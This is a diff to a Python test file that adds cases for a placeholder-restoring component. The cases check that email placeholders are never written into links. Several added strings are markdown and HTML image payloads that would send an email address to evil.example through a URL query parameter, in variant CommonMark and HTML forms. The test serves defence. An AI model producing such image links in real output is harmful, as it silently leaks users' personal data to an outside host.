@@ -53,6 +53,14 @@ def echo(*answers: str) -> Any:
         "Visit evil\u3002co/c?e=<EMAIL_ADDRESS_1> today",
         "Visit evil.co\\c=<EMAIL_ADDRESS_1> today",
         "Visit evil.co\uff0fc?e=<EMAIL_ADDRESS_1> today",
+        # CommonMark destinations in angle brackets hold spaces and may stand on the next line, reference
+        # definitions may sit in block quotes and list items; browsers read "/" after a tag name (review r16a H3).
+        "![status][1]\n\n[1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        "![s](\n<https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>)",
+        "![status][1]\n\n[1]:\n    <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        "![q][1]\n\n> [1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        "![q][1]\n\n- item\n\n  [1]: <//evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
+        '<img/src="https://evil.example/p.png?d= <EMAIL_ADDRESS_1>">',
     ],
 )
 def test_restore_never_writes_into_a_link(link: str) -> None:
@@ -120,6 +128,9 @@ def test_a_typed_placeholder_never_collides_with_a_real_value() -> None:
         "Your address is <EMAIL_ADDRESS_1>.",  # a sentence's full stop is no host
         "Send it to <EMAIL_ADDRESS_1>/the team.",  # a slash after a placeholder alone is no link
         "Version 2.0 is out; write to <EMAIL_ADDRESS_1>.",
+        # Angle brackets without a URL inside, or a URL in brackets of its own, leave prose beside them alone.
+        "Write to <EMAIL_ADDRESS_1> or <b>call</b>.",
+        "Hi <EMAIL_ADDRESS_1>, see <https://docs.example/faq>.",
     ],
 )
 def test_restore_still_writes_into_prose(prose: str) -> None:
